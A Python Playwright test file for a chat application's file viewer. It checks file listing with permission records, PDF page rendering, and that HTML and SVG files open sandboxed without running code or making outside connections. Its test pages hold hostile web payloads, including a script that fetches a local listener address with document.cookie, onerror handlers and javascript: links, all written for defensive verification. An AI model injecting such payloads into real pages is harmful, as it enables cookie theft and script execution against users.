"""A chat's files in the browser: listed as they are made, and shown without running anything."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

from tests.browser.page.stage import Stage, picture, shows, watched
from tests.support.app_server import app_server
from tests.support.pdfs import pdf
from tests.support.scripted_provider import calls, says

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page

pytestmark = pytest.mark.anyio

REFUSALS = "sandboxed|Content Security Policy"
"""What the browser writes to the console of a frame that tries what it may not."""


@asynccontextmanager
async def listener() -> AsyncIterator[tuple[str, list[bytes]]]:
    """An address of another site, and the first bytes of each connection to it."""
    heard: list[bytes] = []

    async def accept(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        # Noted before anything is sent: a bare connection tells something too.
        heard.append(b"connection")
        writer.close()

    server = await asyncio.start_server(accept, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard


async def open_files(stage: Stage, chat: str, width: int = 1400) -> Page:
    page = await stage.open(f"/chats/{chat}")
    await page.set_viewport_size({"width": width, "height": 900})
    return page


@pytest.mark.full
async def test_a_file_is_listed_as_it_is_made_with_who_allowed_it(stage: Stage) -> None:
    content = "# Plan\n\nPack a bag.\n"
    stage.play(
        calls(("write_file", {"path": "notes/plan.md", "content": content})),
        says("Done: [the plan](notes/plan.md)."),
        calls(("edit_file", {"path": "notes/plan.md", "old": "a bag", "new": "two bags"})),
        says("Edited."),
    )
    chat = await stage.server.new_chat(title="Trip")
    page = await open_files(stage, chat)
    await expect(page.get_by_text("No files yet.")).to_be_visible()
    await stage.server.send(chat, "Plan it")
    await page.get_by_role("button", name="Allow once").click()
    row = page.locator(".file", has_text="notes/plan.md")
    await expect(row).to_contain_text("by write_file, allowed by you once")
    await shows(page, "idle")
    await stage.server.send(chat, "Two bags")
    card = page.locator(".ask-card")
    await expect(card.get_by_role("heading")).to_have_text(
        "Allow edit_file to change notes/plan.md?"
    )
    await expect(card.locator(".diff .add")).to_contain_text("Pack two bags.")
    await page.get_by_role("button", name="Allow in this chat").click()
    await expect(row).to_contain_text("by edit_file, allowed by you for this chat")
    await row.get_by_text("2 versions").click()
    await picture(page, "files-listed")
    await row.get_by_role("button", name="Restore version 1").click()
    await expect(row).to_contain_text("restored by you from version 1")
    await expect(row.get_by_text("3 versions")).to_be_visible()
    await page.get_by_role("link", name="the plan").click()
    await expect(page.locator(".sheet")).to_contain_text("Pack a bag.")
    await picture(page, "file-shown")


def leading(outside: str) -> str:
    """A page whose every word leads elsewhere, and one to itself."""
    return f"""<!doctype html><html><head><meta http-equiv="x-dns-prefetch-control" content="on">
<base href="{outside}"><link rel="dns-prefetch" href="{outside}">
<link rel=preconnect href={outside}>
<meta http-equiv="refresh" content="9;url={outside}/refresh"></head><body style="font-size:24px">
<p><a href="{outside}/link" ping="{outside}/ping">link</a>
<a href="{outside}/tab" target="_blank">tab</a>
<svg width="90" height="40"><a xlink:href="{outside}/svg"><text y="30">drawn</text></a></svg>
<svg width="90" height="40"><a><set attributeName="href" to="{outside}/set"/>
<text y="30">moved</text></a></svg>
<math><mtext href="{outside}/math">formula</mtext></math></p>
<form action="{outside}/form"><button formaction="{outside}/act">button</button>
<input type="image" src="{outside}/input" alt="input"></form>
<map name="m"><area shape="default" href="{outside}/area"></map>
<img usemap="#m" width="90" height="40" alt="map"
src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<a href="#end">within</a><p style="margin-top:2000px" id="end">The end</p></body></html>"""


LEADING = ("link", "tab", "drawn", "moved", "formula", "button")


@pytest.mark.full
async def test_no_link_of_a_page_connects_however_it_is_clicked(
    chromium: Browser, tmp_path: Path
) -> None:
    async with (
        listener() as (outside, heard),
        app_server(tmp_path) as server,
        watched(chromium, server.address, others=[outside]) as (context, complaints),
    ):
        complaints.allow(REFUSALS)
        chat = await server.new_chat(title="Trip")
        await server.client.get(f"/chats/{chat}/files.zip?record=1")
        [folder] = (tmp_path / "generated").glob(f"{chat}-*")
        (folder / "page.html").write_text(leading(outside))
        page = await context.new_page()
        for place in ("files", "framed"):
            address = f"{server.address}/chats/{chat}/{place}/page.html"
            await page.goto(address)
            if place == "files":
                await expect(page.get_by_text("its links lead nowhere")).to_be_visible()
            inside = page.frame_locator("iframe") if place == "files" else page.locator("html")
            places = [inside.get_by_text(words, exact=True) for words in LEADING]
            for each in (*places, inside.locator("img").first, inside.locator("input")):
                await each.hover()
                await each.click()
                await each.click(modifiers=["ControlOrMeta"])
                await each.click(button="middle")
            await inside.get_by_text("within").click()
            await expect(inside.get_by_text("The end")).to_be_in_viewport()
            assert page.url.partition("#")[0] == address
        assert heard == []
        assert len(context.pages) == 1


@pytest.mark.full
async def test_a_pdf_is_read_page_by_page(stage: Stage, tmp_path: Path) -> None:
    chat = await stage.server.new_chat(title="Trip")
    await stage.server.client.get(f"/chats/{chat}/files.zip?record=1")
    [folder] = (tmp_path / "generated").glob(f"{chat}-*")
    (folder / "plan.pdf").write_bytes(pdf("Pack two bags", "Leave early"))
    page = await stage.open(f"/chats/{chat}/files/plan.pdf", live=False)
    leaf = page.get_by_role("img", name="Page 1 of 2")
    await expect(leaf).to_be_visible()
    assert await leaf.evaluate("image => image.naturalWidth") == 1200
    box = await leaf.bounding_box()
    assert box is not None
    assert box["width"] > 900
    await page.get_by_role("link", name="Next").first.click()
    await page.get_by_text("The text of this page").click()
    await expect(page.get_by_text("Leave early")).to_be_visible()
    await picture(page, "file-pdf")


def hostile(outside: str) -> str:
    """A page that tries everything: to run, to load, to connect ahead, to leave."""
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={outside}/refresh">
<link rel="preconnect" href="{outside}"><link rel="stylesheet" href="{outside}/style">
<style>@import "{outside}/import"; body {{ background: url({outside}/background) }}</style>
</head><body><p>Static words</p>
<script>document.body.append("it" + " ran"); parent.document.title = "taken";
fetch("{outside}/" + document.cookie)</script>
<img src="{outside}/image" onerror="document.body.append('it' + ' ran')">
<iframe src="{outside}/frame"></iframe><object data="{outside}/object"></object>
<form action="{outside}/form"><button>Send</button></form>
<a href="javascript:document.body.append('it' + ' ran')">script</a>
<a href="{outside}/top" target="_top">top</a>
<svg><script>document.body.append("it" + " ran")</script></svg></body></html>"""


async def test_a_hostile_page_or_drawing_runs_nothing_and_loads_nothing(
    chromium: Browser, tmp_path: Path
) -> None:
    async with (
        listener() as (outside, heard),
        app_server(tmp_path) as server,
        # The browser tells of what it refuses to ask for, too: that is no request.
        watched(chromium, server.address, others=[outside]) as (context, complaints),
    ):
        complaints.allow(REFUSALS)
        chat = await server.new_chat(title="Trip")
        await server.client.get(f"/chats/{chat}/files.zip?record=1")
        [folder] = (tmp_path / "generated").glob(f"{chat}-*")
        (folder / "page.html").write_text(hostile(outside))
        (folder / "drawing.svg").write_text(
            f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">'
            f'<image href="{outside}/image" width="9" height="9"/>'
            f'<script>fetch("{outside}/script")</script><rect width="50" height="50"/></svg>'
        )
        page = await context.new_page()
        for name in ("page.html", "drawing.svg"):
            await page.goto(f"{server.address}/chats/{chat}/files/{name}")
            # It has an origin of its own: not even this server's own page can look into it.
            assert await page.evaluate("document.querySelector('iframe').contentDocument") is None
            await expect(page).to_have_title(f"{name} · harness-web")
            if name == "page.html":
                frame = page.frame_locator("iframe")
                await expect(frame.locator("p")).to_have_text("Static words")
                await frame.get_by_role("button", name="Send").click()
                await frame.get_by_text("script", exact=True).click()
                await frame.get_by_text("top", exact=True).click()
                await expect(frame.locator("body")).not_to_contain_text("it ran")
            await expect(page).to_have_url(f"{server.address}/chats/{chat}/files/{name}")
        await picture(page, "file-drawing")
        # Opened by its address it is only saved; the frame's document is as closed by itself.
        framed = await page.goto(f"{server.address}/chats/{chat}/framed/page.html")
        assert framed is not None
        await expect(page.locator("body")).not_to_contain_text("it ran")
        assert await page.evaluate("self.origin") == "null"
        assert heard == []
